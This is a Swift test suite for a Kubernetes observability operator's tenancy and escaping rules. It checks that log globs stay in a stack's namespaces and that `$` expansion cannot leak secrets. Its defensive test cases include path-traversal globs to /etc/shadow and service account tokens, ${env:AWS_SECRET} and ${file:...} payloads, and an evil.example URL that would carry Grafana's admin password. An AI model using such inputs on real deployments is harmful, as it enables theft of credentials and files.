import Foundation
import KubeModel
import Render
import Testing

/// Issue 16's rendering rules: pod logs scoped to the stack's namespaces, and no `$`
/// expansion reaching the collector or Grafana.
@Suite struct TenancyRenderTests {
    func stack(_ ns: String, _ edit: (inout StackSpec) -> Void = { _ in }) -> ObservabilityStack {
        var spec = StackSpec(environment: .development, exporters: ExportersSpec(loki: LokiExporterSpec(endpoint: "http://loki.monitoring.svc:3100/otlp")))
        edit(&spec)
        return ObservabilityStack(metadata: ObjectMeta(name: "obs", namespace: ns), spec: spec)
    }

    func include(_ s: ObservabilityStack) -> [String] {
        CollectorConfig.agent(StackContext(s))["receivers"]?["filelog"]?["include"]?.arrayValue?.compactMap(\.stringValue) ?? []
    }

    @Test func byDefaultAStackReadsOnlyItsOwnAndItsClientsPodLogs() {
        #expect(include(stack("dev")) == ["/var/log/pods/dev_*/*/*.log"])
        let withClients = stack("obs-ns") {
            $0.ingest = IngestSpec(basicAuth: BasicAuthSpec(enabled: true, clients: [ClientRef(name: "a", namespace: "apps"), ClientRef(name: "b", namespace: "jobs")]))
        }
        #expect(include(withClients) == ["/var/log/pods/apps_*/*/*.log", "/var/log/pods/jobs_*/*/*.log", "/var/log/pods/obs-ns_*/*/*.log"])
    }

    /// Two stacks in two namespaces: neither reads the other's pods.
    @Test func twoStacksInTwoNamespacesNeverReadEachOthersPods() {
        let dev = include(stack("dev"))
        let prod = include(stack("prod"))
        #expect(!dev.contains { $0.contains("prod") } && !prod.contains { $0.contains("dev") })
    }

    @Test(arguments: [
        ("/var/log/*.log", "must be under /var/log/pods/"),
        ("/hostfs/var/lib/kubelet/pods/*/volumes/*/*/token", "must be under /var/log/pods/"),
        ("/var/log/pods/dev_*/../../../etc/shadow", "must not contain .."),
        ("/var/log/pods/*/*/*.log", "must name the pod directory's namespace"),
        ("/var/log/pods/prod_*/*/*.log", "must name the pod directory's namespace"),
    ])
    func aLogGlobOutsideTheStacksNamespacesIsRefused(_ glob: String, _ message: String) {
        let errors = StackValidator.validate(stack("dev") { $0.collector = CollectorSpec(fileLogs: FileLogsSpec(include: [glob])) })
        #expect(errors.contains { $0.field == "spec.collector.fileLogs.include[0]" && $0.message.contains(message) }, "\(errors)")
    }

    @Test func aLogGlobInTheStacksNamespaceIsAccepted() {
        #expect(StackValidator.validate(stack("dev") { $0.collector = CollectorSpec(fileLogs: FileLogsSpec(include: ["/var/log/pods/dev_api-*/*/*.log"])) }).isEmpty)
    }

    @Test(arguments: [
        ("${env:AWS_SECRET}", "spec.exporters.loki.endpoint"),
        ("${file:/etc/shadow}", "spec.exporters.loki.endpoint"),
        ("$HOME", "spec.exporters.loki.endpoint"),
    ])
    func anExpansionInAnEndpointIsRefusedNamingTheField(_ value: String, _ field: String) {
        let errors = StackValidator.validate(stack("dev") { $0.exporters?.loki?.endpoint = "http://loki.monitoring.svc:3100/\(value)" })
        #expect(errors.contains { $0.field == field && $0.message.contains("would expand") }, "\(errors)")
    }

    @Test func anExpansionInAGrafanaURLOrALogGlobIsRefused() {
        let grafana = StackValidator.validate(stack("dev") { $0.grafana = GrafanaSpec(prometheusURL: "https://evil.example/${GF_SECURITY_ADMIN_PASSWORD}") })
        #expect(grafana.contains { $0.field == "spec.grafana.prometheusURL" && $0.message.contains("would expand") })
        let glob = StackValidator.validate(stack("dev") { $0.collector = CollectorSpec(fileLogs: FileLogsSpec(include: ["/var/log/pods/dev_*/${env:X}/*.log"])) })
        #expect(glob.contains { $0.field == "spec.collector.fileLogs.include[0]" && $0.message.contains("would expand") })
    }

    /// What no rule refuses is still written literally: every `$` of a user's value is
    /// escaped for the collector and for Grafana, in one pass each.
    @Test func aLiteralDollarIsEscapedForTheCollectorAndForGrafana() throws {
        let s = stack("dev") {
            $0.exporters?.loki?.endpoint = "http://loki.monitoring.svc:3100/otlp?tenant=a$1"
            $0.grafana = GrafanaSpec(prometheusURL: "https://prometheus.example/$1")
        }
        #expect(StackValidator.validate(s).isEmpty)
        let ctx = StackContext(s)
        let yaml = try YAMLText.document(CollectorConfig.agent(ctx))
        #expect(yaml.contains("tenant=a$$1"))
        // The only expansions left are Vigil's own: the node's name.
        #expect(Expansion.unescaped(yaml).allSatisfy { $0.hasPrefix("${env:K8S_NODE_NAME}") })
        #expect(Expansion.unescaped(yaml).count == 2)
        #expect(ConfigCheck.check(ctx).isEmpty)
        let datasources = try GrafanaRender.datasources(ctx)
        #expect(datasources.contains("https://prometheus.example/$$1"))
        // Vigil's own Grafana variables come out escaped once, as before.
        #expect(Expansion.unescaped(datasources).isEmpty)
    }

    /// The consumers read bytes, not Characters: a `$` that a combining mark follows (one
    /// Character, "$\u{301}") is escaped too, in the collector's strings and in Grafana's.
    @Test func aDollarInsideACombinedCharacterIsEscaped() {
        #expect(Expansion.escape("a$\u{301}b") == "a$$\u{301}b")
        #expect(Expansion.escapeGrafana(["url": "x$\u{301}", "list": ["é$", "plain"]]) == ["url": "x$$\u{301}", "list": ["é$$", "plain"]])
        #expect(Expansion.escapeCollector(["exporters": ["otlp": ["endpoint": "h$\u{301}"]]]) == ["exporters": ["otlp": ["endpoint": "h$$\u{301}"]]])
    }

    /// Only k8sattributes talks to the API server: agents carry a token only with it, the
    /// gateway never, and resource detection uses no detector that would need one.
    @Test(arguments: Environment.allCases)
    func collectorPodsMountATokenOnlyForKubernetesAttributes(_ env: Environment) throws {
        for attributes in [true, false] {
            var spec = StackSpec(environment: env, exporters: ExportersSpec(tempo: TempoExporterSpec(endpoint: "tempo.monitoring.svc:4317")))
            spec.collector = CollectorSpec(gateway: GatewaySpec(replicas: 2), kubernetesAttributes: KubernetesAttributesSpec(enabled: attributes))
            let ctx = StackContext(ObservabilityStack(metadata: ObjectMeta(name: "obs", namespace: "team"), spec: spec))
            let objects = try DesiredState.render(ctx).objects
            let workloads = objects.filter { ["DaemonSet", "Deployment"].contains($0.resource.kind) }
            #expect(workloads.count == 2)
            for w in workloads {
                let wanted = attributes && w.resource.kind == "DaemonSet"
                #expect(w.body["spec"]?["template"]?["spec"]?["automountServiceAccountToken"] == .bool(wanted), "\(w.key)")
            }
            // The rights go with the token: a RoleBinding to vigil-collector, or none.
            let bindings = objects.filter { $0.resource.kind == "RoleBinding" }
            #expect(bindings.map(\.namespace) == (attributes ? ["team"] : []))
            #expect(bindings.allSatisfy { $0.body["roleRef"]?["name"] == "vigil-collector" && $0.body["subjects"]?.arrayValue?.first?["name"] == "obs-collector" })
        }
        let ctx = StackContext(ObservabilityStack(metadata: ObjectMeta(name: "obs", namespace: "team"), spec: StackSpec(environment: env)))
        let detectors = CollectorConfig.agent(ctx)["processors"]?["resourcedetection"]?["detectors"]?.arrayValue?.compactMap(\.stringValue) ?? []
        #expect(Set(detectors).isSubset(of: ["env", "system"]), "a detector that needs the API: \(detectors)")
    }

    @Test func vigilsOwnCredentialReferencesAreTheOnlyExpansions() throws {
        var spec = StackSpec(environment: .production)
        spec.collector = CollectorSpec(gateway: GatewaySpec(replicas: 0))
        spec.exporters = ExportersSpec(tempo: TempoExporterSpec(endpoint: "tempo.monitoring.svc:4317", bearerTokenSecret: SecretKeyRef(name: "t", key: "token")))
        let ctx = StackContext(ObservabilityStack(metadata: ObjectMeta(name: "obs", namespace: "prod"), spec: spec))
        let config = CollectorConfig.agent(ctx)
        let refs = Expansion.strings(config, path: "").filter { !Expansion.unescaped($0.value).isEmpty }
        // An extension's credential, and the node's name for the resource processor (the
        // downward API's spec.nodeName): nothing else, and nowhere else.
        #expect(refs.map(\.value) == ["${env:TEMPO_BEARER_TOKEN}", "${env:K8S_NODE_NAME}", "${env:K8S_NODE_NAME}"])
        #expect(refs.allSatisfy { $0.path.hasPrefix("extensions.") || ($0.path.hasPrefix("processors.resource.attributes") && $0.value == "${env:K8S_NODE_NAME}") })
        // Anywhere else, or another variable, it is not Vigil's own.
        #expect(!Expansion.isOwnCollectorReference(path: ["processors", "resource", "attributes[3]", "value"], value: "${env:LOKI_PASSWORD}"))
        #expect(!Expansion.isOwnCollectorReference(path: ["exporters", "otlp/tempo", "endpoint"], value: "${env:K8S_NODE_NAME}"))
    }
}
